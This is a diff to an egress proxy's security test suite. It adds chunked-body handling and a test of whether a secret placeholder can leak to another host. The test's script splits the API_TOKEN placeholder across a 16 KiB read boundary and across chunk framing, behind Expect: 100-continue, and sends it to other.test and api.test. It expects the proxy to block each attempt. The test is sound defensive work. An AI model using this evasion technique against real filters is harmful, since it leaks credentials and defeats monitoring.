@@ -54,9 +54,26 @@ class H(http.server.SimpleHTTPRequestHandler):
         self.end_headers()
         if self.command != "HEAD":
             self.wfile.write(body)
+    def read_body(self):
+        # what arrived, also when brig cut the body short (it is logged whole)
+        got = b""
+        try:
+            if "chunked" in (self.headers.get("Transfer-Encoding") or ""):
+                while True:
+                    size = int(self.rfile.readline().split(b";")[0] or b"0", 16)
+                    if not size:
+                        self.rfile.readline()
+                        break
+                    got += self.rfile.read(size)
+                    self.rfile.readline()
+            else:
+                n = int(self.headers.get("Content-Length") or 0)
+                got = self.rfile.read(n) if n else b""
+        except (OSError, ValueError):
+            pass
+        return got
     def handle_any(self):
-        n = int(self.headers.get("Content-Length") or 0)
-        body = self.rfile.read(n) if n else b""
+        body = self.read_body()
         self.note(body)
         p = self.path
         if p.startswith("/repo.git"):
@@ -369,6 +386,88 @@ curl -sS -i --data-binary @/tmp/big https://api.test/bigbody | grep -i '^x-brig-
     assert [q["path"] for q in seen] in (["/redirect"], ["/redirect", "/bigbody"]), seen
     assert not any("brig-secret-API_TOKEN" in json.dumps(q) for q in seen), seen
     assert all(q["headers"]["Host"] == "api.test" for q in seen), seen   # the value went to its host only
+    assert_never_leaked(up, r, path)
+
+
+@attack("placeholder-in-a-later-body-read", "a plain-http body whose placeholder comes after its head: the "
+        "client waits for 100 Continue, then sends 16 KiB of filler with the placeholder across the relay's 16 KiB "
+        "read (Content-Length), or split across two chunks (chunked, plain http and intercepted https)",
+        "every byte of a plain-http body is searched as it passes (a seam of 31 bytes between pieces; a chunked "
+        "body's data alone, its framing followed), the piece holding it never sent: 403 and an audit event")
+def test_a_placeholder_later_in_a_body_never_leaves(ws, up):
+    """The old proxy searched a plain-http body only as far as it came with
+    its head, and the interceptor searched a chunked body's raw bytes, in
+    which the chunk framing splits a placeholder in two."""
+    brig = ws
+    mark = up.mark()
+    script = r'''
+python3 - <<'EOF'
+import os, socket, ssl
+ph = os.environ["API_TOKEN"].encode()
+half = len(ph) - 12
+print("placeholder", ph.decode())
+def framed(chunks):
+    return b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"
+def answer(s):
+    out = b""
+    try:
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            out += d
+    except OSError:
+        pass
+    lines = out.split(b"\r\n")
+    final = [l for l in lines if l.startswith(b"HTTP/1.1 ") and not l.startswith(b"HTTP/1.1 100")]
+    deny = [l for l in lines if l.lower().startswith(b"x-brig-deny")]
+    return (final[0] if final else b"none").decode(), (deny[0] if deny else b"").decode()
+def plain(path, chunked):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+    if chunked:
+        body, framing = framed([b"a" * 20000 + ph[:half], ph[half:] + b"b" * 100]), "Transfer-Encoding: chunked"
+    else:
+        body = b"a" * (16384 - half) + ph + b"b" * 100
+        framing = "Content-Length: %d" % len(body)
+    s.sendall(("POST http://other.test%s HTTP/1.1\r\nHost: other.test\r\nExpect: 100-continue\r\n%s\r\n\r\n"
+               % (path, framing)).encode())
+    cont = b""
+    while b"\r\n\r\n" not in cont:   # the head went on alone: the body follows in reads of its own
+        cont += s.recv(1)
+    print(path, "continue", cont.split(b"\r\n")[0].decode())
+    s.sendall(body)
+    print(path, *answer(s))
+def tls_chunked(path):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+    s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += s.recv(1)
+    t = ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
+    t.sendall(("POST %s HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n" % path).encode())
+    t.sendall(framed([b"a" * 300 + ph[:half], ph[half:] + b"b" * 10]))
+    print(path, *answer(t))
+plain("/slow-length", False)
+plain("/slow-chunked", True)
+tls_chunked("/tls-chunked")
+EOF
+'''
+    r, ev, path = audited(brig, script, *up.args("--http-rule", "other.test * /**"))
+    out = r.stdout
+    for p in ("/slow-length", "/slow-chunked"):
+        assert f"{p} continue HTTP/1.1 100 Continue" in out, r
+        assert f"{p} HTTP/1.1 403 Forbidden X-Brig-Deny: other.test:80; exfiltration: the placeholder of secret " \
+               "API_TOKEN in a plain-http request body" in out, r
+    assert "/tls-chunked HTTP/1.1 403 Forbidden X-Brig-Deny: api.test; exfiltration: the placeholder of secret " \
+           "API_TOKEN in the request body" in out, r
+    # on the host: the heads arrived, the bodies cut before the piece that
+    # completes the placeholder (the part of it in the piece before went on)
+    seen, ph = up.seen(mark), placeholder_of(r.stdout)
+    for q in seen:
+        assert ph[-32:] not in q["body"], f"ATTACK WORKED: the upstream got the placeholder: {q}"
+    assert {q["path"] for q in seen} <= {"/slow-length", "/slow-chunked", "/tls-chunked"}, seen
+    exfil = [e for e in ev if e.get("event") == "net" and e["decision"] == "deny" and "API_TOKEN" in e.get("reason", "")]
+    assert len(exfil) == 3, ev
     assert_never_leaked(up, r, path)
 
 
